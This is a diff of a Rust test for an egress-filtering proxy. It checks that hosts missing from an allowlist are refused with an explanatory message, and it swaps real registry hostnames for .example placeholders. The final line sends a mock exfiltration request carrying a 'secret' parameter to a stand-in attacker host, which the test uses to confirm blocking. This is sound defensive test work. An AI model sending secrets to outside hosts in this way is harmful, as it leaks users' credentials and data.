@@ -112,15 +112,15 @@ async fn a_tunnel_to_an_open_host_carries_every_byte_both_ways_after_one_look_up
 async fn a_host_that_no_rule_names_is_refused_in_a_line_that_says_what_is_open() {
     let registry = Registry::start().await;
     let rig = Plan::default().mirror("npm", registry.settings()).start().await;
-    let granted = grant(&["pypi.org", "*.crates.io"]);
-    let end = "is not open to acme/shop; open: pypi.org, *.crates.io (executor.network in its rules); mirrors: /mirror/npm/\n";
-    for target in ["evil.example:443", "pypi.org:22", "crates.io:443"] {
+    let granted = grant(&["pypi.example", "*.crates.example"]);
+    let end = "is not open to acme/shop; open: pypi.example, *.crates.example (executor.network in its rules); mirrors: /mirror/npm/\n";
+    for target in ["evil.example:443", "pypi.example:22", "crates.example:443"] {
         assert_eq!(
             rig.refusal(&granted, target).await,
             format!("egress: {target} {end}")
         );
     }
-    let nothing = rig.refusal(&grant(&[]), "pypi.org:443").await;
+    let nothing = rig.refusal(&grant(&[]), "pypi.example:443").await;
     assert!(nothing.contains("open: no host"), "{nothing}");
     let mut client = rig.client(&granted).await;
     let answer = client.get("http://evil.example/x?secret=1").await;
